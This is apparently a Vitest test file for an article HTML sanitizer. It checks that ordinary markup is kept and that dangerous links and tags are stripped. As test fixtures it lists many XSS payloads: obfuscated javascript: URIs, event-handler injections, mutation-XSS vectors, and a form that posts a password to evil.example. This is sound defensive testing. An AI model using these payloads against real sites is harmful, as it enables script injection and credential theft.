// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { articleAllowlist, createSanitizer } from '@/lib/safe-html/article-html';

const clean = createSanitizer(window);

function parse(html: string) {
  return new DOMParser().parseFromString(clean(html), 'text/html').body;
}

describe('what an author writes stays', () => {
  it.each([
    '<h2>Part</h2><h3>Smaller</h3><h4>Smallest</h4>',
    '<p>Text with <strong>bold</strong>, <em>emphasis</em>, <code>code</code> and <mark>a mark</mark>.</p>',
    '<ul><li>one<ol start="3"><li>two</li></ol></li></ul>',
    '<dl><dt>ROI</dt><dd>What came back</dd></dl>',
    '<blockquote><p>Said</p></blockquote>',
    '<pre><code>a &lt; b</code></pre>',
    '<figure><img src="https://example.com/a.webp" alt="A shop" width="800" height="450"><figcaption>The shop</figcaption></figure>',
    '<table><caption>Costs</caption><thead><tr><th scope="col" colspan="2">A</th></tr></thead><tbody><tr><td rowspan="2">1</td></tr></tbody></table>',
    '<p lang="hi">लेख</p>',
    '<hr>',
  ])('%s', (html) => {
    expect(clean(html)).toBe(html);
  });

  it.each([
    'https://example.com/a?b=c#d',
    'http://example.com/',
    'mailto:hello@example.com',
    'tel:+910000000001',
    '/quiz',
    '#part',
  ])('a link to %s, which then cannot reach back', (href) => {
    const link = parse(`<a href="${href}">x</a>`).querySelector('a');
    expect(link?.getAttribute('href')).toBe(href);
    expect(link?.getAttribute('rel')).toBe('noopener');
  });

  it.each(['https://example.com/a.jpg', '/images/a.jpg'])('a picture from %s', (src) => {
    expect(parse(`<img src="${src}" alt="">`).querySelector('img')?.getAttribute('src')).toBe(src);
  });
});

describe('addresses that lead elsewhere go', () => {
  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' \u0001javascript:alert(1)',
    'java\nscript:alert(1)',
    'java&#9;script:alert(1)',
    '&#106;avascript:alert(1)',
    'javascript&colon;alert(1)',
    'vbscript:x',
    'data:text/html,<script>alert(1)</script>',
    'blob:https://example.com/1',
    'file:///etc/passwd',
    'intent://x',
    '//example.com',
    '/\\example.com',
    '\\\\example.com',
    'https:',
    'https:///',
    'quiz',
  ])('link %j', (href) => {
    const link = parse(`<a href="${href}">kept text</a>`).querySelector('a');
    expect(link?.hasAttribute('href')).toBe(false);
    expect(link?.textContent).toBe('kept text');
  });

  it.each([
    'http://example.com/a.jpg',
    'data:image/png;base64,AAAA',
    'data:image/svg+xml,<svg onload=alert(1)>',
    'javascript:alert(1)',
    '//example.com/a.jpg',
    'mailto:a@example.com',
    'blob:x',
    '',
  ])('picture %j', (src) => {
    expect(parse(`<p>x<img src="${src}" alt=""></p>`).innerHTML).toBe('<p>x</p>');
  });

  it('addresses on other elements', () => {
    expect(clean('<p href="/x" src="/y">a</p><blockquote cite="javascript:1">b</blockquote>')).toBe(
      '<p>a</p><blockquote>b</blockquote>',
    );
    expect(clean('<a src="/x">a</a><img src="/x" href="/y" alt="">')).toBe(
      '<a>a</a><img src="/x" alt="">',
    );
  });
});

// Each of these must leave nothing that can run, frame, post or restyle.
const hostile = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/a.jpg" onload="alert(1)">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<style>@import "https://evil.example/a.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<form action="https://evil.example"><input name="password"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video src="/a.mp4" onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>',
  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  '<a href="https://example.com" onclick="alert(1)" target="_blank" ping="https://evil.example">x</a>',
  '<div id="root" class="fixed inset-0" name="main" data-x="1" aria-hidden="true" tabindex="1">x</div>',
  '<img name="getElementById" src="/a.jpg"><form name="body"></form>',
  '<x-element is="y">x</x-element>',
  '<p is="x-y">x</p>',
  '<img srcset="javascript:alert(1)" src="/a.jpg">',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href="/x"><a href="javascript:alert(1)">x</a></a>',
  '<![CDATA[<script>alert(1)</script>]]><!--><img src=x onerror=alert(1)>-->',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title>',
  '<select><iframe></select><img src=x onerror=alert(1)>',
];

describe('hostile HTML', () => {
  const allowedTags = new Set<string>(articleAllowlist.ALLOWED_TAGS);
  const allowedAttributes = new Set([...articleAllowlist.ALLOWED_ATTR, 'rel']);

  it.each(hostile)('%s', (html) => {
    const body = parse(`<p>before</p>${html}<p>after</p>`);
    for (const element of body.querySelectorAll('*')) {
      expect(allowedTags).toContain(element.localName);
      for (const { name, value } of element.attributes) {
        // `is` cannot be removed from an element, only emptied.
        if (name === 'is' && value === '') continue;
        expect(allowedAttributes).toContain(name);
        expect(/script:|evil|data:/i.test(value) && !['title', 'alt'].includes(name)).toBe(false);
      }
    }
    expect(body.textContent).toContain('before');
  });

  it.each(hostile)('cleaning twice changes nothing more: %s', (html) => {
    expect(clean(clean(html))).toBe(clean(html));
  });

  it('the allowlist names nothing that runs, frames, posts or restyles', () => {
    for (const tag of ['script', 'iframe', 'form', 'input', 'style', 'svg', 'object', 'template']) {
      expect(articleAllowlist.ALLOWED_TAGS).not.toContain(tag);
    }
    for (const attribute of ['style', 'class', 'id', 'name', 'srcset', 'target', 'onclick']) {
      expect(articleAllowlist.ALLOWED_ATTR).not.toContain(attribute);
    }
  });
});

it('a second gate works like the first', () => {
  const other = createSanitizer(window);
  expect(other('<a href="/quiz">x</a>')).toBe(clean('<a href="/quiz">x</a>'));
});

it('without a window nothing passes', () => {
  // @ts-expect-error -- what a build without jsdom would hand in
  expect(() => createSanitizer({})).toThrow('HTML can only be cleaned in a window with a DOM.');
});
